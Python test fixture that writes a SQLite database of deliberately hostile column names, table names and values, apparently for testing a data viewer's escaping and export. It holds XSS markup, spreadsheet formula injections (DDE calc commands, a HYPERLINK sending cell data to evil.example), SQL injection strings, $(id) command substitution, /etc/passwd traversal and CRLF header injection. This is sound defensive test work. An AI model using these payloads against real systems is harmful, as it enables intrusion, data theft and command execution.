"""A database in which every name and value is out to break whoever shows, sorts, filters, exports or logs it."""

from __future__ import annotations

import sqlite3
from contextlib import closing
from pathlib import Path

MARK = "zqx"
"""Stands in each piece of markup below, so that a page can be searched for what came through unescaped."""

MARKUP = (
    f"<script>{MARK}(1)</script>",
    f'"><img src=x onerror={MARK}(2)>',
    f"'><svg onload={MARK}(3)>",
    f"</textarea></title></style><b {MARK}>",
    f"javascript:{MARK}(4)",
    f"{{{{ {MARK}.__class__ }}}}{{% raw %}}{{0.__class__}}%(x)s%s${{{MARK}}}",
    f"<!--{MARK}--><![CDATA[{MARK}]]>&lt;{MARK}&gt;&amp;",
    f"--></script><script>{MARK}(5)//",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    "\uff1d1+1",
    "|calc",
    "%0A=1+1",
)
STRANGE = (
    "\u202egnp.exe",
    "a\u2066b\u2069\u200b\ufeff",
    "\x01\x02\x1b[31mred\x1b[0m\x07",
    "line\r\nSet-Cookie: stolen=1\r\n\r\n<b>",
    "'; DROP TABLE customer; --",
    '" OR 1=1 --',
    "\\'\"`;|&$(id)",
    "e\u0301 \U0001f600 \U0001f468\u200d\U0001f469\u200d\U0001f467 \u0627\u0644",
    "../../../../etc/passwd",
    "%00%2e%2e%2f",
    "\ufffe\uffff",
    "~n",
    "new-0",
    "",
    " ",
    "x" * 100_000,
)
VALUES = (*MARKUP, *FORMULAS, *STRANGE)

COLUMNS = (
    "constructor",
    "__class__",
    "__proto__",
    "toString",
    "sort",
    "q",
    "limit",
    "columns",
    "after",
    "before",
    "format",
    "_csrf",
    "_token",
    "_key",
    "_id",
    "_version",
    "_pending",
    "id",
    "rowid",
    "name",
    "key",
    "table",
    "self",
    "row",
    "select",
    "lang",
    "done",
    "next",
    "state",
    "back",
    "title",
    f"<script>{MARK}(6)</script>",
    "a\"b'c`d",
    "x;y",
    "naïve",
    "\u202eltr",
    "a__in",
    "tab\there",
    "line\nbreak",
    "%s",
    "{0}",
    "{{7*7}}",
)
TABLES = (
    f"<script>{MARK}(7)</script>",
    "constructor",
    "__class__",
    "tables",
    "order by",
    "sqlite",
    "quo\"te's",
    "{{7*7}}",
)
WIDE = "wide"


def quoted(name: str) -> str:
    return '"' + name.replace('"', '""') + '"'


def make_nasty(path: Path) -> Path:
    """Write the database to `path`."""
    with closing(sqlite3.connect(path)) as db, db:
        columns = ", ".join(f"{quoted(name)} TEXT" for name in COLUMNS if name not in ("_key",))
        db.execute(f"CREATE TABLE {WIDE} (code TEXT PRIMARY KEY NOT NULL, {columns})")
        names = [name for name in COLUMNS if name != "_key"]
        for number, value in enumerate(VALUES):
            marks = ", ".join("?" * (len(names) + 1))
            db.execute(
                f"INSERT INTO {WIDE} VALUES ({marks})",
                (value, *(VALUES[(number + place) % len(VALUES)] for place in range(len(names)))),
            )
        for number, table in enumerate(TABLES):
            db.execute(
                f"CREATE TABLE {quoted(table)} (id INTEGER PRIMARY KEY, name TEXT, "
                f"wide TEXT REFERENCES {WIDE} (code), CHECK (name <> 'never'))"
            )
            db.executemany(
                f"INSERT INTO {quoted(table)} (name, wide) VALUES (?, ?)",
                [(value, VALUES[(place + number) % len(VALUES)]) for place, value in enumerate(VALUES)],
            )
        _add_plain(db)
    return path


def _add_plain(db: sqlite3.Connection) -> None:
    """Tables whose numbers can be drawn, whose blobs are pages, and one to write to."""
    db.executescript(
        """
        CREATE TABLE sale (
            id INTEGER PRIMARY KEY, label TEXT, amount DECIMAL(12,2), at DATE,
            status TEXT CHECK (status IN ('open', 'sent')), note TEXT, extra JSON
        );
        CREATE TABLE paper (id INTEGER PRIMARY KEY, name TEXT, content BLOB);
        """
    )
    db.executemany(
        "INSERT INTO sale (label, amount, at, status, note, extra) VALUES (?, ?, ?, ?, ?, ?)",
        [
            (v, n * 10, f"2026-01-{n % 28 + 1:02d}", ("open", "sent")[n % 2], v, '{"<b>":1}')
            for n, v in enumerate(VALUES)
        ],
    )
    for name, content in (
        (f"<script>{MARK}(8)</script>.html", f"<html><script>{MARK}(8)</script></html>".encode()),
        ('x";\r\nX-Evil: 1.svg', f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}(9)"/>'.encode()),
        ("pdf", b"%PDF-1.7"),
        ("png", b"\x89PNG\r\n\x1a\n<script>" + MARK.encode()),
    ):
        db.execute("INSERT INTO paper (name, content) VALUES (?, ?)", (name, content))
